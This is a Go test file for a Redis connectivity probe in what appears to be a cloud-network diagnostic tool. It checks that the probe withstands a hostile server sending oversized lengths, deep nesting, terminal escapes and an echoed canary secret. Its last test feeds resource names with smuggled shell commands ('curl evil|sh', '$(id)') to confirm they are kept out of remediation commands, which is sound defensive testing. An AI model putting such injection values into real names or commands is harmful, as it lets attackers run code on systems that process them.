package probe

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/vpcdoctor/vpcdoctor/finding"
	"github.com/vpcdoctor/vpcdoctor/internal/fakeredis"
)

// hostileServer is the Redis server a pull request can point the probe at: it answers
// every chunk a client sends with what reply writes.
func hostileServer(t *testing.T, reply func(conn net.Conn, request []byte)) int {
	t.Helper()
	return fakeredis.Serve(t, reply)
}

// constant replies the same bytes to every request.
func constant(reply string) func(net.Conn, []byte) {
	return func(conn net.Conn, _ []byte) { _, _ = conn.Write([]byte(reply)) }
}

// endless writes a line that never ends until the client goes away.
func endless(conn net.Conn, _ []byte) {
	_, _ = conn.Write([]byte("+"))
	chunk := bytes.Repeat([]byte("a"), 32<<10)
	for {
		if _, err := conn.Write(chunk); err != nil {
			return
		}
	}
}

// hostileSecret holds the characters %q, JSON and terminal escaping rewrite.
const hostileSecret = "pa\"ss\\wo\trd-CANARY-7f3a"

func TestProbeSurvivesHostileServer(t *testing.T) {
	cases := []struct {
		name  string
		reply func(net.Conn, []byte)
	}{
		{"huge bulk length", constant("$9223372036854775806\r\n")},
		{"1 TiB bulk length", constant("$1099511627776\r\nxxxx")},
		{"negative bulk length", constant("$-9223372036854775808\r\n")},
		{"huge array", constant("*9223372036854775807\r\n")},
		{"deep map nesting", constant(strings.Repeat("%1\r\n", 1<<20))},
		{"deep array nesting", constant(strings.Repeat("*1\r\n", 1<<20))},
		{"line that never ends", endless},
		{"garbage", constant("\x00\xff\x1b[2J\x1b]0;pwned\x07\r\n")},
		{"long error", constant("-ERR " + strings.Repeat("\x1b[31m::error::x ", 4000) + "\r\n")},
		{"echoes the secret", func(conn net.Conn, req []byte) {
			_, _ = conn.Write([]byte("-WRONGPASS invalid password " + hostileSecret + " in " + strings.ReplaceAll(string(req), "\r\n", " ") + "\r\n"))
		}},
		{"echoes the secret in PONG", constant("+PONG " + hostileSecret + "\r\n")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			port := hostileServer(t, c.reply)
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			findings := Run(context.Background(), Options{
				Host: "127.0.0.1", Port: port, Auth: hostileSecret, Count: 3,
				ConnectTimeout: 2 * time.Second, Timeout: 10 * time.Second,
			}, nil)
			elapsed := time.Since(start)
			runtime.ReadMemStats(&after)
			if elapsed > 12*time.Second {
				t.Errorf("probe took %s, more than its 10s timeout", elapsed)
			}
			grown := after.TotalAlloc - before.TotalAlloc
			if grown > 256<<20 {
				t.Errorf("probe allocated %d MiB", grown>>20)
			}
			t.Logf("%s in %s, %d KiB allocated", findings[2].Status+"/"+findings[3].Status, elapsed.Round(time.Millisecond), grown>>10)
			if len(findings) != 5 {
				t.Fatalf("%d findings, want 5", len(findings))
			}
			encoded, _ := json.Marshal(findings)
			if bytes.Contains(encoded, []byte("CANARY")) {
				t.Errorf("the secret leaked into the findings: %s", encoded)
			}
			for _, f := range findings {
				if len(f.Message) > 2048 {
					t.Errorf("%s: message of %d bytes quotes too much of the reply", f.ID, len(f.Message))
				}
				for _, r := range f.Message {
					if r < 0x20 || r == 0x7f {
						t.Errorf("%s: message holds control character %U: %q", f.ID, r, f.Message)
						break
					}
				}
			}
			if findings[0].Status != finding.Pass {
				t.Errorf("probe.tcp is %s, want pass: %s", findings[0].Status, findings[0].Message)
			}
		})
	}
}

// TestProbeTimeoutBoundsRun: a server that accepts and never answers cannot hold the probe
// longer than Timeout, whatever ConnectTimeout and Count allow.
func TestProbeTimeoutBoundsRun(t *testing.T) {
	port := silentListener(t)
	start := time.Now()
	findings := Run(context.Background(), Options{Host: "127.0.0.1", Port: port, Count: MaxCount,
		ConnectTimeout: time.Minute, Timeout: 500 * time.Millisecond}, nil)
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Errorf("probe took %s with a 500ms timeout", elapsed)
	}
	if len(findings) != 5 || findings[3].Status != finding.Error || CauseOf(findings[3]) != CauseCanceled {
		t.Errorf("want probe.ping (the first command) to end in error when the run's timeout runs out, got %+v", findings)
	}
}

func TestRESPGuardPassesValidReplies(t *testing.T) {
	server, client := net.Pipe()
	replies := "+PONG\r\n$5\r\nhello\r\n*2\r\n:1\r\n$-1\r\n%1\r\n+k\r\n*1\r\n+v\r\n|1\r\n+a\r\n+b\r\n+after-attribute\r\n_\r\n"
	go func() { _, _ = server.Write([]byte(replies)); _ = server.Close() }()
	got, err := readAll(newRESPGuard(client))
	if err != nil || string(got) != replies {
		t.Errorf("guard passed %q, %v; want every byte of %q", got, err, replies)
	}
}

func readAll(conn net.Conn) ([]byte, error) {
	var out []byte
	buf := make([]byte, 3) // small reads: replies cross read boundaries
	for {
		n, err := conn.Read(buf)
		out = append(out, buf[:n]...)
		if err != nil {
			if strings.Contains(err.Error(), "closed") || err.Error() == "EOF" {
				return out, nil
			}
			return out, err
		}
	}
}

// TestProbeCommandsWithholdHostileNames: names from a hostile snapshot never reach the
// probe's remediation commands, and the finding says why.
func TestProbeCommandsWithholdHostileNames(t *testing.T) {
	port := freePort(t) // nothing listens: the connection is refused, with remediation
	findings := Run(context.Background(), Options{
		Host: "127.0.0.1", Port: port, ConnectTimeout: time.Second, Timeout: 5 * time.Second,
		Instance: &Instance{Name: "projects/p/locations/us-central1/instances/x;curl evil|sh;#", Port: 6379},
		Service:  "projects/p/locations/us-central1/services/svc$(id)",
	}, nil)
	f := findings[0]
	if f.Remediation == nil {
		t.Fatalf("probe.tcp %s has no remediation: %s", f.Status, f.Message)
	}
	for _, c := range f.Remediation.Commands {
		if strings.Contains(c, "curl") || strings.Contains(c, "$(") {
			t.Errorf("command carries the hostile name: %s", c)
		}
	}
	if !strings.Contains(f.Message, "is not a valid Google Cloud name") {
		t.Errorf("message does not say a command was left out: %s", f.Message)
	}
}
